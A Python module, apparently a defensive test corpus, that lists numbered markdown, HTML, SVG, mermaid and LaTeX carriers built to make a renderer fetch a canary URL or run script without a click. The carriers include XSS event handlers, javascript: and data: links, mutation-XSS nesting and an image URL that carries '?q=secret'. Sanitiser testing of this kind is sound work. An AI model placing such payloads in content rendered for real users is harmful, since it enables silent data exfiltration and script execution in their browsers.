"""Texts that in other products made a browser run a script or fetch an address without a click.

`{n}` becomes the number of the carrier, so that a request tells which one got through.
"""

from __future__ import annotations

HOST = "http://canary.invalid"

IMAGES = (
    "![x]({host}/{n}?q=secret)",
    "![x]({host}/{n} 'title')",
    "![x][r{n}]\n\n[r{n}]: {host}/{n}",
    "![r{n}]\n\n[r{n}]: <{host}/{n}>",
    "![r{n}][]\n\n[r{n}]: {host}/{n}",
    "[![x]({host}/{n})](https://intranet.invalid)",
    "[1]: {host}/{n}\n\n![1]",
    "| a | b |\n|---|---|\n| ![x]({host}/{n}) | b |",
    "- ![x]({host}/{n})\n- b",
    "> ![x]({host}/{n})",
    "## ![x]({host}/{n})",
    "**![x]({host}/{n})**",
    "1. a ![x]({host}/{n})",
    "text[^{n}]\n\n[^{n}]: ![x]({host}/{n})",
    "![x](//canary.invalid/{n})",
    "![x](\\\\canary.invalid\\{n})",
    "![x](HTTP://canary.invalid/{n})",
    "![x]({host}/{n}.svg#<script>)",
    "!\u200b[x]({host}/{n})",
    "![" + "x" * 900 + "]({host}/{n})",
)
ELEMENTS = (
    "<img src='{host}/{n}'>",
    "<img/src={host}/{n}>",
    "<IMG SRC={host}/{n}>",
    "<img srcset='{host}/{n} 2x'>",
    "<picture><source srcset='{host}/{n}'><img></picture>",
    "<video poster='{host}/{n}' src='{host}/{n}' autoplay></video>",
    "<audio src='{host}/{n}' autoplay></audio>",
    "<iframe src='{host}/{n}'></iframe>",
    "<iframe srcdoc=\"<img src='{host}/{n}'>\"></iframe>",
    "<object data='{host}/{n}'></object>",
    "<embed src='{host}/{n}'>",
    "<link rel='stylesheet' href='{host}/{n}'>",
    "<link rel='preload' as='image' href='{host}/{n}'>",
    "<link rel='prefetch' href='{host}/{n}'>",
    "<link rel='dns-prefetch' href='{host}/{n}'>",
    "<style>@import url('{host}/{n}');</style>",
    "<style>*{{background:url('{host}/{n}')}}</style>",
    "<div style=\"background:url('{host}/{n}')\">x</div>",
    "<svg><image href='{host}/{n}'/></svg>",
    "<svg><use href='{host}/{n}#a'/></svg>",
    "<svg><style>@import '{host}/{n}'</style></svg>",
    "<math><mglyph src='{host}/{n}'/></math>",
    "<input type=image src='{host}/{n}'>",
    "<body background='{host}/{n}'>",
    "<table background='{host}/{n}'><tr><td>x</td></tr></table>",
    "<base href='{host}/{n}/'>",
    "<meta http-equiv=refresh content='0;url={host}/{n}'>",
    "<form action='{host}/{n}'><button autofocus>go</button></form>",
    "<a href='x' ping='{host}/{n}'>x</a>",
    "<template shadowrootmode=open><img src='{host}/{n}'></template>",
)
SCRIPTS = (
    "<script>fetch('{host}/{n}')</script>",
    "<script src='{host}/{n}'></script>",
    "<img src=x onerror=\"fetch('{host}/{n}')\">",
    "<svg onload=\"fetch('{host}/{n}')\">",
    "<svg><animate onbegin=\"fetch('{host}/{n}')\" attributeName=x dur=1s>",
    "<details open ontoggle=\"fetch('{host}/{n}')\">x</details>",
    "<body onload=\"fetch('{host}/{n}')\">",
    "<input autofocus onfocus=\"fetch('{host}/{n}')\">",
    "<iframe src=\"javascript:fetch('{host}/{n}')\"></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"fetch('{host}/{n}')\">",
    "[x](javascript:fetch('{host}/{n}'))",
    "[x](data:text/html,<script>fetch('{host}/{n}')</script>)",
    "![x\" onerror=\"fetch('{host}/{n}')](x)",
    "[x](https://a.invalid/\"onmouseover=\"fetch('{host}/{n}'))",
    "`<img src=x onerror=fetch('{host}/{n}')>`",
)
DIAGRAMS = (
    "```mermaid\ngraph LR; A[\"<img src='{host}/{n}'>\"]\n```",
    '```mermaid\nflowchart TD\n A@{{img: "{host}/{n}"}}\n```',
    "$$\\href{{{host}/{n}}}{{x}} \\includegraphics{{{host}/{n}}}$$",
    "$\\url{{{host}/{n}}}$",
    "```html\n<img src='{host}/{n}'>\n```",
    "```svg\n<svg onload=\"fetch('{host}/{n}')\"/>\n```",
    ":material/image: ![x]({host}/{n}) :red[![y]({host}/{n})]",
    "<!--><img src='{host}/{n}'>-->",
    "<![CDATA[<img src='{host}/{n}'>]]>",
    "<noscript><p title=\"</noscript><img src='{host}/{n}'>\">",
)
FORMS = (*IMAGES, *ELEMENTS, *SCRIPTS, *DIAGRAMS)


def numbered() -> list[str]:
    """Return every carrier with its number in its address."""
    return [form.format(host=HOST, n=n) for n, form in enumerate(FORMS)]
